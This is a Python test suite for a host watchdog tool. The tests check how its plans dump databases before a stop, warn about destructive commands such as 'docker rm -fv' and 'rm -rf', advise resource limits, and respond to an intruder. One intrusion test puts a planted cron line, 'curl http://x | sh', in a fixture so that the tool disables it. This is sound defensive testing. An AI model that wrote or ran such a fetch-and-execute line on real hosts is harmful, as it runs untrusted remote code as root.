"""What a plan saves, warns of and advises beside its steps, and what it does about an intruder."""

from __future__ import annotations

import shlex
import subprocess
from collections.abc import Sequence
from pathlib import Path
from typing import Any, cast

import pytest
from support.builders import CONTAINER_ID, make_container, make_cron_job, make_facts, make_process, make_service, varied
from support.made_world import Made, made_world

from runaway_watchdog.effects.host import dumps
from runaway_watchdog.engines.model import Mount
from runaway_watchdog.explain import dangerous as never, hardening as afterwards, intrusion, save
from runaway_watchdog.model.casefile import Sign
from runaway_watchdog.model.effect import Size
from runaway_watchdog.model.plan import Dangerous, Plan
from runaway_watchdog.owners import Layer, contain, supervise
from runaway_watchdog.owners.cron.details import TableLine
from runaway_watchdog.owners.interface import Owner, Read
from runaway_watchdog.owners.steps import single
from runaway_watchdog.world import Files

ANONYMOUS = "ab" * 32


class Engine:
    """This one container, and what else is listed."""

    def __init__(self, *others: dict[str, Any], volumes: tuple[str, ...] = (), version: str = "20.10.24") -> None:
        own = {"Id": CONTAINER_ID, "Names": ["/ocr-worker-1"], "State": "running", "Mounts": [volume(ANONYMOUS)]}
        self._listed, self._volumes, self._version = [own, *others], volumes, version

    def containers(self) -> list[dict[str, Any]]:
        return self._listed

    def volumes(self) -> list[dict[str, Any]]:
        return [{"Name": each, "Driver": "local", "Mountpoint": f"/v/{each}"} for each in self._volumes]

    def info(self) -> dict[str, Any]:
        return {"ServerVersion": self._version}

    def endpoint(self) -> None:
        return None


def volume(name: str) -> dict[str, str]:
    return {"Type": "volume", "Name": name}


def other(name: str, *volumes: str, state: str = "running", project: str = "") -> dict[str, Any]:
    labels = {"com.docker.compose.project": project} if project else {}
    mounts = [volume(each) for each in volumes]
    return {"Id": name.rjust(64, "0"), "Names": [f"/{name}"], "State": state, "Mounts": mounts, "Labels": labels}


def worker(**changes: Any) -> Owner:
    return make_container(mounts=changes.pop("mounts", (Mount("volume", ANONYMOUS, "", "/x", True),)), **changes)


def dangers(owner: Owner, engine: Engine) -> dict[str, Dangerous]:
    found, gaps = never.dangers([Layer(owner, make_facts())], made_world([], engine=engine))
    assert gaps == ()
    return {each.command: each for each in found}


# --- save --------------------------------------------------------------------------------------------------------


def test_a_database_that_may_be_in_memory_alone_is_dumped_before_the_stop() -> None:
    """Redis is not frozen first, since it has to answer; PostgreSQL has a log, and a stop loses nothing of it."""
    owner = make_container(image="redis:7", cpu_limit=False)
    layer = Layer(owner, make_facts())
    steps = save.saved(contain([layer]), layer, made_world([]).files)
    assert [step.phase for step in steps] == ["relieve", "save", "hold", "hold"]
    assert "renice" in steps[0].command
    assert "redis-cli --rdb -" in steps[1].command
    assert steps[1].command.endswith("> /root/ocr-worker-1.rdb")
    plain = Layer(make_container(image="postgres:16"), make_facts())
    assert save.saved(contain([plain]), plain, made_world([]).files) == contain([plain]).steps


def test_a_database_on_a_folder_in_memory_is_dumped() -> None:
    """Whatever its kind."""
    layer = Layer(make_container(image="postgres:16", memory_only=["/var/lib/postgresql/data"]), make_facts())
    assert any("pg_dumpall" in step.command for step in save.saved(contain([layer]), layer, made_world([]).files))


@pytest.mark.parametrize(
    ("copy", "word"),
    [("app.copy", "app.copy"), ("it's.copy", "it's.copy"), ('a"b\\.copy', 'a\\"b\\\\.copy'), ("-x.copy", "./-x.copy")],
)
def test_a_file_of_sqlite_is_copied_by_its_own_backup(copy: str, word: str) -> None:
    """Any name stays one word of the shell and one of sqlite3 (its shell reads escapes in double quotes only)."""
    line = dumps.of_file("/srv/it's.db", copy)
    assert line is not None
    assert shlex.split(line) == ["sqlite3", "/srv/it's.db", f'.backup "{word}"']


def test_another_file_has_no_such_copy() -> None:
    """Known by its name alone."""
    assert dumps.of_file("/srv/x.txt", "x") is None


@pytest.mark.parametrize(
    ("texts", "kind"),
    [
        (("shop_db", "shop-store-1 postgres:16"), "PostgreSQL"),  # the first only says that it is a database
        (("shop_pgdata", "shop-cache-1 redis:7"), "PostgreSQL"),
        (("shop_db", "shop-app-1 shop:2"), ""),
        (("uploads", "web nginx:1"), None),
    ],
)
def test_a_kind_that_is_named_counts_before_one_that_is_not(texts: tuple[str, ...], kind: str | None) -> None:
    """Compose's own examples call a database's volume db_data; its image says which it is."""
    found = dumps.seems(texts)
    assert (None if found is None else found.name) == kind


# --- never -------------------------------------------------------------------------------------------------------


def test_only_what_would_lose_or_hit_something_is_told() -> None:
    """A container alone on its host, without data: nothing to warn of."""
    assert dangers(worker(), Engine()) == {}


def test_a_volume_without_a_name_goes_with_its_container() -> None:
    """By its real name."""
    found = dangers(worker(), Engine(volumes=(ANONYMOUS,)))
    (lost,) = found["docker rm -fv ocr-worker-1"].would_lose
    assert (lost.name, lost.used_by) == (ANONYMOUS, ("ocr-worker-1",))


@pytest.mark.parametrize(("version", "line"), [("20.10.24", "-f"), ("28.5.1", "-af")])
def test_prune_takes_what_nobody_refers_to_now(version: str, line: str) -> None:
    """A stopped database keeps its volume from `volume prune`, and not from `system prune` before Engine 23."""
    stopped = other("db", "pgdata", state="exited")
    found = dangers(worker(), Engine(stopped, volumes=("pgdata", "left"), version=version))
    (lost,) = found[f"docker volume prune {line}"].would_lose
    assert lost.name == "left"
    by_system = found.get("docker system prune -af --volumes")
    names = [] if by_system is None else [each.name for each in by_system.would_lose]
    assert names == (["left", "pgdata"] if version < "23" else [])


def test_the_engine_is_not_to_be_stopped_for_one_container() -> None:
    """Whom it would hit is named; with live-restore nobody, and nobody is named."""
    found = dangers(worker(), Engine(other("shop"), other("old", state="exited")))
    assert found["systemctl stop docker"].why == "it ends 1 other container: shop"
    assert "systemctl stop docker" not in dangers(worker(live_restore=True), Engine(other("shop")))


class Folder:
    """`world.Files` with one folder more, which holds a database."""

    def __init__(self, files: Files, path: str, size: int | None) -> None:
        self._files, self._path, self._size = files, path, size

    def __getattr__(self, name: str) -> Any:
        return getattr(self._files, name)

    def status(self, path: str) -> Sequence[Any]:
        return ("folder", 4096, 0.0, 0) if path == self._path else self._files.status(path)

    def exists(self, path: str) -> bool:
        return path == f"{self._path}/PG_VERSION" or self._files.exists(path)

    def size(self, path: str, limit_s: float) -> Size:
        return Size(self._size) if path == self._path else self._files.size(path, limit_s)


@pytest.mark.parametrize(("kind", "path", "size", "told"), [
    ("bind", "/srv/data", 512, True),
    ("bind", "/srv/data", 0, False),
    ("bind", "/etc/shop", 512, False),
    ("volume", "/srv/data", 512, False),
])  # fmt: skip
def test_the_folder_of_its_data(kind: str, path: str, size: int, told: bool) -> None:
    """Told as the preflight tells it: what it holds, how much, and every container that works in it."""
    owner = worker(mounts=(Mount(kind, "", path, "/x", True),))
    engine = Engine({**other("db"), "Mounts": [{"Type": "bind", "Source": path}]})
    world = made_world([], engine=engine)
    world = world._replace(files=cast(Files, Folder(world.files, path, size)))
    found, _ = never.dangers([Layer(owner, make_facts())], world)
    lost = {each.command: each.would_lose for each in found}.get(f"rm -rf {path}")
    if not told:
        assert lost is None
        return
    assert lost is not None
    assert lost[0].why == "it is deleted: PostgreSQL's data, a folder of this host that containers work in"
    assert (lost[0].size, lost[0].used_by, lost[0].in_use) == (Size(size), ("db",), True)


def test_a_mere_stop_deletes_what_was_made_with_rm() -> None:
    """The plan only pauses it."""
    assert "docker stop ocr-worker-1" in dangers(worker(auto_remove=True), Engine())


def test_processes_of_others_that_bear_the_name() -> None:
    """pkill looks for the name within names; processes of the same owner do not count."""
    made = [
        Made(3355, 1, "burn", ("burn",), "0::/system.slice/a.service"),
        Made(60, 1, "burn", ("burn",), "0::/system.slice/a.service"),
        Made(61, 1, "slowburn", ("slowburn",), "0::/system.slice/b.service"),
    ]
    facts = make_facts(make_process(name="burn", cgroup="/system.slice/a.service"))
    ((told,), _) = never.dangers([Layer(make_service(unit_file="/lib/x"), facts)], made_world(made))
    assert told.command == "pkill burn"
    assert told.why == "it ends another process of that name too: slowburn (61) in b.service"


def test_who_survives_pkill_is_not_counted() -> None:
    """The kernel keeps SIGTERM from the first process of a PID namespace that does not handle it."""
    group = "0::/system.slice/b.service"
    made = [
        Made(3355, 1, "burn", ("burn",), "0::/system.slice/a.service"),
        Made(61, 1, "burn", ("burn",), group, inner=(1,)),
    ]
    layers = [Layer(make_service(unit_file="/lib/x"), make_facts(make_process(name="burn")))]
    assert never.dangers(layers, made_world(made)) == ((), ())
    mortal = [made[0], Made(61, 1, "burn", ("burn",), group)]
    ((told,), _) = never.dangers(layers, made_world(mortal))
    assert [(each.verb, each.name) for each in told.would_lose] == [("kill", "burn (61)")]


# --- afterwards --------------------------------------------------------------------------------------------------


def advice(owner: Owner, **world: Any) -> list[tuple[str | None, tuple[str, ...]]]:
    found = afterwards.advice([Layer(owner, make_facts())], made_world([], **world))
    return [(each.where, each.lines) for each in found if each.where]


def test_the_lines_for_a_compose_file() -> None:
    """A limit where the engine enforces one, and an end to the restarts; who shares the host besides."""
    owner = make_container(kind="compose-service")
    engine = Engine(other("a", project="ocr"), other("b", project="shop"), other("c"))
    (where, lines), _ = advice(owner, engine=engine)
    assert where == "/srv/ocr/compose.yml, under services: worker:"
    assert lines == ("cpus: 0.5", "restart: on-failure:5")
    limited = varied(owner, cpu_limit=False)
    assert advice(limited, engine=engine)[0][1] == ("restart: on-failure:5",)
    told = afterwards.advice([Layer(owner, make_facts())], made_world([], engine=engine))[-1].what
    assert told == "it shares this host with c, project shop"


def test_the_lines_for_a_unit() -> None:
    """A drop-in; the engine's own unit, and what runs once, get none."""
    ((where, lines),) = advice(make_service("always"))
    assert where == "/etc/systemd/system/burn.service.d/limits.conf, then: systemctl daemon-reload"
    assert lines == ("[Unit]", "StartLimitIntervalSec=10min", "StartLimitBurst=5", "[Service]", "CPUQuota=50%")
    assert advice(make_service("always", transient=True)) == []
    assert advice(make_service("always")._replace(name="docker.service")) == []


@pytest.mark.parametrize(
    ("line", "of_user", "new"),
    [
        ("*/5 * * * * root a && b", False, "*/5 * * * * root flock -n LOCK timeout 1h nice -n 19 sh -c 'a && b'"),
        ("@hourly it's", True, "@hourly flock -n LOCK timeout 1h nice -n 19 sh -c 'it'\"'\"'s'"),
        (
            r"@daily date +\%F | cat - /dev/stdin%one%two",
            True,
            r"@daily flock -n LOCK timeout 1h nice -n 19 sh -c 'date +\%F | cat - /dev/stdin'%one%two",
        ),
    ],
)
def test_the_line_of_a_crontab(line: str, of_user: bool, new: str) -> None:
    """Once at a time, an hour at most; the shell reads the same command, and the command the same input. Root's lock
    lies where nobody else can take it for good."""
    for user, folder in (("root", "/run"), ("bob", "/run/lock")):
        table = TableLine("/etc/cron.d/x", 2, user, f"# x\n{line}\n", of_user)
        ((where, (told,)),) = advice(make_cron_job("line 2 of it", table))
        assert where == "line 2 of /etc/cron.d/x"
        assert told == new.replace("LOCK", f"{folder}/line-2-of-it.lock")


def test_a_crontab_keeps_its_own_shell() -> None:
    """What only that one understands would fail in another; a line below does not count."""
    above = TableLine("/t", 2, "root", "SHELL=/bin/bash\n@daily a <(b)\n", of_user=True)
    assert advice(make_cron_job("it", above))[0][1][0].endswith("""nice -n 19 "$SHELL" -c 'a <(b)'""")
    below = above._replace(text="@daily a <(b)\nSHELL=/bin/bash\n", number=1)
    assert advice(make_cron_job("it", below))[0][1][0].endswith("nice -n 19 sh -c 'a <(b)'")


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("#!/bin/sh\nexec 2>&1\nexec chpst -u web /srv/web --port 80 2>&1\n", "chpst -u web /srv/web --port 80 2>&1"),
        ('#!/usr/bin/env bash\n\n  exec "$PROGRAM"\n\n', '"$PROGRAM"'),
        ("#!/bin/sh\nexec 2>&1\n", None),
        ("#!/bin/sh\n/srv/web\n", None),
        ("#!/bin/sh\nexec -a web /srv/web\n", None),
        ("#!/bin/sh\nexec nice -n 5 /srv/web\n", None),
        ("#!/bin/sh\nexec a \\\n  exec b\n", None),
        ("#!/bin/execlineb -P\nexec /srv/web\n", None),
        ("exec /srv/web\n", None),
        ("", None),
        (None, None),
    ],
)
@pytest.mark.parametrize("in_container", [False, True])
def test_the_line_of_a_run_script(text: str | None, line: str | None, in_container: bool) -> None:
    """The whole line as it has to stand there, or no advice."""
    details = supervise.Service(60, 59, "/srv/web", "up", False, False, "runsvdir", in_container)
    owner = Read("runit-service", "web", "/srv/web", "wanted up", details, ())
    told = advice(owner, texts={} if text is None else {"/srv/web/run": text})
    wanted = [("/srv/web/run: its last line", (f"exec nice -n 19 {line}",))]
    assert told == ([] if in_container or line is None else wanted)


# --- signs of an intruder ----------------------------------------------------------------------------------------


def adapted(*signs: Sign, files: dict[str, str] | None = None) -> Plan:
    plan = Plan("Stop it", (*single.relieve(make_process()), single.end(make_process())), ())
    return intrusion.adapted(plan, make_process(), signs, made_world([], texts=files))


def test_an_intruder_is_frozen_kept_and_not_ended() -> None:
    """And nobody is told that a new container would be clean for long."""
    plan = adapted(Sign("posing", "a", "b"))
    assert [step.phase for step in plan.steps] == ["relieve", "save"]
    assert not any("kill 3355" in step.command for step in plan.steps)
    assert "infected again" in plan.goal
    assert intrusion.AGAIN in plan.remaining_triggers


def test_the_door_it_came_in_by_is_closed() -> None:
    """A port, for what comes from outside alone; a scheduled download, by its line; both with their undo."""
    door = Sign("door", "port 6379 (Redis) is open to everybody", "x", port=6379)
    text = "# a\n* * * * * root curl http://x | sh\n"
    download = Sign("download", "a scheduled line", "/etc/cron.d/x: * * * * * root curl", path="/etc/cron.d/x")
    port, line = adapted(door, download, files={"/etc/cron.d/x": text}).steps[2:]
    assert {port.phase, line.phase} == {"close"}
    assert port.undo == port.command.replace("-I", "-D")
    assert "sed '2s/^/# held: /'" in line.command
    assert adapted(download).steps[2:] == ()


def test_the_evidence_is_really_kept(tmp_path: Path) -> None:
    """Of a living process, in a folder for its owner alone."""
    running = subprocess.Popen(["sleep", "60"])
    try:
        ticks = int(Path(f"/proc/{running.pid}/stat").read_text().rpartition(")")[2].split()[19])
        process = make_process(running.pid)
        process = process._replace(key=process.key._replace(start_ticks=ticks))
        (step,) = (
            each
            for each in intrusion.adapted(Plan("", (), ()), process, (), made_world([])).steps
            if each.phase == "save"
        )
        subprocess.run(["sh", "-c", step.command.replace("/root/", f"{tmp_path}/")], check=True)
    finally:
        running.kill()
        running.wait()
    (folder,) = tmp_path.iterdir()
    assert folder.stat().st_mode & 0o077 == 0
    assert (folder / "cmdline").read_bytes() == b"sleep\x0060\x00"
    assert (folder / "program").stat().st_size > 1000
    assert {each.name for each in folder.iterdir()} == {"program", "cmdline", "maps", "fd"}
